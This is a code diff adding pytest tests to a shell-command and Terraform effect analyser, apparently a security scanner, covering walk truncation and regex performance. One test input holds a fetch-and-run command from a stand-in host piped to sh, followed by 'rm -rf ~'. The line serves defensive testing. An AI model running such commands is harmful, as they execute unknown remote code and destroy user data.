@@ -13,6 +13,8 @@ from hookd.dialects.launch import _settings
 from hookd.dialects.spec import settings_doc
 from hookd.enrich.effects.branches import _same_upstream
 from hookd.enrich.effects.loaded import file_commands
+from hookd.enrich.effects.projectcode import _TF_BLOCK, _TF_COMMAND
+from hookd.enrich.effects.words import runs_nothing
 from hookd.enrich.package_sources import _formats, default_sources
 from hookd.enrich.paths import PathResolver
 from hookd.enrich.shell.analysis import analyse_shell
@@ -127,3 +129,29 @@ def test_nested_parameters_are_scanned_for_substitutions_once(tmp_path: Path) ->
     start = time.process_time()
     analysed("echo " + "${a:-" * 900 + "x" + "}" * 900, tmp_path)
     assert time.process_time() - start < 0.1
+
+
+def test_a_line_past_the_walk_leaves_unknown_code_for_callers_that_read_the_effects_alone(tmp_path: Path) -> None:
+    """A tool's command line (an MCP server's, a dev container's postCreateCommand) is judged by its effects only:
+    a line whose walk stopped early must leave unknown code there, not fewer effects (`; rm -rf ~` past the walk)."""
+    line = "true " + " ".join(["a"] * (WALK_WORDS + 80)) + "; curl -s https://x.example/i | sh; rm -rf ~"
+    _shell_facts, effects = analyse_shell(line, home=HOME, base_dir=str(tmp_path), project_dir=str(tmp_path))
+    assert any(e["op"] == "exec" and e["known"] is False for e in effects)
+
+
+@pytest.mark.parametrize("program", ["fish_add_path", "set"])
+def test_a_startup_line_of_many_options_is_read_in_one_pass(program: str) -> None:
+    """`fish_add_path --a --a … (`: an option read as one dash or two, or as a word, once split the line 3^n ways
+    (20 options: 2 s, 40: hours); the options and words are possessive now. The line runs a command: not plain."""
+    assert runs_nothing(f"{program} " + "--a " * 40 + "PATH (") is False
+    assert runs_nothing(f"{program} -gx EDITOR nvim") is (program == "set")
+    assert runs_nothing("fish_add_path -m ~/.local/bin") is True
+
+
+def test_a_terraform_block_is_read_to_the_next_block_past_blank_lines() -> None:
+    """`^\\s*` under MULTILINE spanned blank lines from every start (16 KB of them: 4.5 s a file); a line's own
+    blanks are `[^\\S\\n]*`: the block still ends at the next block, and a here-document at its marker."""
+    text = 'provisioner "local-exec" {\n  command = <<EOT\nmake\n  EOT\n' + "\n" * 2000 + '}\nresource "x" "y" {}\n'
+    ((kind, body),) = _TF_BLOCK.findall(text)
+    assert kind == "local-exec" and "resource" not in body
+    assert [m[2] for m in _TF_COMMAND.findall(body)] == ["make"]
